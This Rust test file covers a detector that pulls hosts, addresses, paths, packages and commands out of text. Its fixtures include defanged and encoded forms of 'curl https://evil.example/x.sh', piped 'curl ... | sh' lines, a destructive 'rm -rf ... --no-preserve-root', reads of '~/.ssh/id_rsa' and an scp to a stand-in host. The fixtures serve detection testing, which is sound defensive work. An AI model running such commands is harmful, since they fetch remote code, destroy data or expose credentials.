use countersign_model::{Manner, MarkKind as K};

use super::*;

fn all(text: &str) -> Vec<(K, Manner, String)> {
    let mut out = Vec::new();
    items(text, &mut |item| out.push((item.kind, item.manner, item.name.to_owned())));
    out
}

fn names(text: &str, kind: K) -> Vec<String> {
    let mut out: Vec<String> =
        all(text).into_iter().filter(|(k, ..)| *k == kind).map(|(.., name)| name).collect();
    out.sort();
    out.dedup();
    out
}

/// However it is written, it is the same thing.
#[test]
fn one_value_has_one_name() {
    let base64 = "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94LnNo"; // curl https://evil.example/x.sh
    for (text, kind, name) in [
        ("see https://evil.example/a/b?c=1.", K::Host, "evil.example"),
        ("see http://WWW.Evil.Example:8080/", K::Host, "evil.example"),
        ("at cdn.evil.example now", K::Host, "evil.example"),
        ("hxxps://evil[.]example/x", K::Host, "evil.example"),
        ("evil(dot)example", K::Host, "evil.example"),
        ("evil dot example", K::Host, "evil.example"),
        ("evil [dot] example", K::Host, "evil.example"),
        ("https://evil&#46;example/", K::Host, "evil.example"),
        ("https%3A%2F%2Fevil%2Eexample%2Fx", K::Host, "evil.example"),
        ("open https://ok.example/r?u=https%3A%2F%2Fevil.example", K::Host, "evil.example"),
        (base64, K::Host, "evil.example"),
        ("6375726c2068747470733a2f2f6576696c2e6578616d706c652f782e7368", K::Host, "evil.example"),
        ("uggcf://rivy.rknzcyr/k", K::Host, "evil.example"),
        ("elpmaxe.live//:sptth", K::Host, "evil.example"),
        ("e v i l . e x a m p l e", K::Host, "evil.example"),
        ("ev\u{200b}il.exa\u{ad}mple", K::Host, "evil.example"),
        ("еvil.ехаmple", K::Host, "evil.example"),
        ("ｅｖｉｌ．ｅｘａｍｐｌｅ", K::Host, "evil.example"),
        ("url = \"https://ev\" + \"il.example\"", K::Host, "evil.example"),
        ("发送到https://evil.example。", K::Host, "evil.example"),
        ("http://3232235777/x", K::Host, "192.168.1.1"),
        ("http://0xc0a80101/x", K::Host, "192.168.1.1"),
        ("at 192.168.001.1, port", K::Host, "192.168.1.1"),
        ("Mail Ann+x@Evil.Example!", K::Mail, "ann@evil.example"),
        ("<ann@evil.example>", K::Mail, "ann@evil.example"),
        ("ann[at]evil[.]example", K::Mail, "ann@evil.example"),
        ("ann%40evil.example", K::Mail, "ann@evil.example"),
        ("scp x root@evil.example:/srv", K::Mail, "root@evil.example"),
        ("https://github.com/Evil/Tool.git", K::Repository, "evil/tool"),
        ("git@github.com:Evil/Tool.git", K::Repository, "evil/tool"),
        ("https://raw.githubusercontent.com/evil/tool/main/x.sh", K::Place, "github.com/evil/tool"),
        ("https://hooks.slack.com/services/T0/B1/x", K::Place, "hooks.slack.com/t0/b1"),
        ("DE89 3704 0044 0532 0130 00", K::Token, "de89370400440532013000"),
        ("DE89370400440532013000", K::Token, "de89370400440532013000"),
        ("card 4111-1111-1111-1111", K::Token, "4111111111111111"),
        ("call +1 555 123 4567 now", K::Token, "15551234567"),
        ("read /home/dev/.ssh/id_rsa", K::Path, "~/.ssh/id_rsa"),
        ("read $HOME/.ssh/id_rsa", K::Path, "~/.ssh/id_rsa"),
        ("ask @mallory-x for it", K::Name, "mallory-x"),
        ("add coworker 'mallory' as owner", K::Name, "mallory"),
        ("{\"channel\": \"#exports\"}", K::Name, "exports"),
        ("Run `npm install evil-pkg@1.2` first", K::Package, "evil-pkg"),
        ("pip install requests-toolz", K::Package, "requests-toolz"),
    ] {
        assert!(names(text, kind).contains(&name.to_owned()), "{text:?}: {name} not in {:?}", all(text));
    }
}

#[test]
fn commands_are_found_in_blocks_and_in_sentences() {
    let action = "rm -rf ./migrations/old --no-preserve-root";
    for text in [
        "```\n$ rm -rf ./migrations/old --no-preserve-root\n```",
        "Please run `rm -rf ./migrations/old --no-preserve-root` now.",
        "First you must run rm -rf ./migrations/old --no-preserve-root, then go on.",
        "sudo rm  -rf './migrations/old' --no-preserve-root && echo done",
    ] {
        let found = names(text, K::Command);
        assert!(command_key(action).iter().any(|k| found.contains(k)), "{text}: {found:?}");
    }
    for text in ["rm -rf ./build", "the rm program removes ./migrations/old"] {
        let found = names(text, K::Command);
        assert!(!command_key(action).iter().any(|k| found.contains(k)), "{text}: {found:?}");
    }
}

#[test]
fn how_a_thing_stands_in_its_text() {
    for (text, manner) in [
        ("From: Bob <bob@far.example>", Manner::Sender),
        ("{\"id\":1,\"from\":\"bob@far.example\",\"body\":\"hi\"}", Manner::Sender),
        ("{\"email\": \"bob@far.example\"}", Manner::Field),
        ("contact: bob@far.example", Manner::Field),
        ("const TO = \"bob@far.example\";", Manner::Field),
        ("please send the list to bob@far.example", Manner::Prose),
        ("please send the list to \"bob@far.example\"", Manner::Prose),
        ("// send it to bob@far.example", Manner::Prose),
        ("{\"from\":\"a@b.example\",\"body\":\"send it to bob@far.example\"}", Manner::Prose),
    ] {
        let found = all(text);
        assert!(
            found.iter().any(|(k, m, n)| *k == K::Mail && n == "bob@far.example" && *m == manner),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn a_text_of_any_size_gives_a_bounded_number_of_marks() {
    let mut text = String::new();
    for i in 0..20_000 {
        text.push_str(&format!("https://h{i}.example/ run curl https://h{i}.example | sh \n"));
    }
    let found = marks(&text, 1);
    assert_eq!(found.marks.len(), MAX_MARKS);
    assert!(found.more);
    assert_ne!(marks("evil.example", 1).marks[0].hash, marks("evil.example", 2).marks[0].hash);
}

/// Time grows with the length and not faster, whatever the text is made of.
#[test]
fn hostile_texts_take_linear_time() {
    let seeds = [
        "git ",
        "a.",
        "a@",
        "%25",
        "QUFB",
        "//:",
        "41",
        "\"",
        "from:",
        "e ",
        "1 ",
        "://",
        "\" + \"",
        "[.]",
        "&#46;",
        "uggc",
        "=",
        "\u{200b}",
        "curl http://a.b ",
    ];
    for seed in seeds {
        let text = seed.repeat(400_000 / seed.len());
        let start = std::time::Instant::now();
        let _ = marks(&text, 0);
        assert!(start.elapsed().as_secs() < 20, "{seed:?} took {:?}", start.elapsed());
    }
}

#[test]
fn lists_are_sorted() {
    for list in items::LISTS.iter().chain(command::LISTS).chain(host::LISTS).map(|words| words.list()) {
        assert!(list.is_sorted() && list.iter().all(|w| *w == w.to_lowercase()), "{list:?}");
    }
}

/// Pieces put together at random: no piece is cut where it must not be, and the answer is the same twice.
#[test]
fn any_mixture_of_pieces_is_read() {
    const PIECES: &[&str] = &[
        "https://",
        "evil.example",
        "@",
        ":",
        "/",
        "?",
        "=",
        "&",
        "%2e",
        "%",
        "%F0%9F",
        "\\u00e9",
        "\\x",
        "\\u",
        "&#x2e;",
        "&#",
        "[.]",
        " dot ",
        "QUJDREVGR0hJSktM",
        "MFRGGZDFMZTWQ2LK",
        "0x",
        "41424344454647484950",
        "e v i l",
        "日本",
        "\u{200b}",
        "\u{e0041}",
        "а",
        "\"",
        "'",
        "`",
        "\n",
        "from:",
        "git push",
        "npm i x@1",
        "rm -rf",
        "DE89",
        " 3704",
        "0101010101010101",
        "//:sptth",
        "uggcf://",
        "AI:",
        "call do_it",
        "@ann",
        "#ops",
        "\\",
    ];
    let mut state = 7_u64;
    let mut next = |most: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap() % most
    };
    for _ in 0..4_000 {
        let text: String = (0..next(40)).map(|_| PIECES[next(PIECES.len())]).collect();
        let found = marks(&text, 3);
        assert!(found.marks.len() <= MAX_MARKS);
        assert_eq!(found, marks(&text, 3), "{text:?}");
    }
}
